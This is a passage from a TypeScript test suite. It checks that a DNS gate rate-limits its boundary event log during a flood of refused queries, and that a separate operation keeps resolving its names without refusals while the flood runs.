  // a tenth over: an event's own time and the gate's clock can fall either side of a second
  t.ok(busiest <= EVENTS_PER_SECOND * 1.1, `events.jsonl is gated: at most ${EVENTS_PER_SECOND} boundary lines a second (busiest second: ${busiest})`);
  if (rc('REFUSED') > EVENTS_PER_SECOND * (res.ms / 1000 + 1)) {
    t.ok(boundary.length < rc('REFUSED'), `a flood faster than the gate is cut: ${boundary.length} boundary lines for ${rc('REFUSED')} refusals in ${res.ms} ms`);
  } else {
    t.comment(`${rc('REFUSED')} refusals in ${res.ms} ms: never over ${EVENTS_PER_SECOND} a second on average, so nothing had to be cut`);
  }
  // the other operation
  t.same(c.out.map((o) => `${o.name} ${o.rcode}`), calmNames.map((n) => `${n} NOERROR`), 'the other operation resolved each of its names');
  t.equal(ofKind(c, 'dns_answer').length, calmNames.length, 'and leased each answer');
  t.ok(ofKind(c, 'dns_refused').length === 0 && dnsDenied(c).length === 0, 'with no refusal of its own');
  const first = Date.parse(f.faults.find((l) => l.kind === 'dns_query')?.at as string);
  const last = Date.parse(f.faults[f.faults.length - 1]?.at as string);
  const during = ofKind(c, 'dns_answer').filter((l) => Date.parse(l.at as string) >= first && Date.parse(l.at as string) <= last);
  t.ok(during.length >= 1, `${during.length} of its answers came while the flood was under way`);
  await verified(t, f);
  await verified(t, c);
});
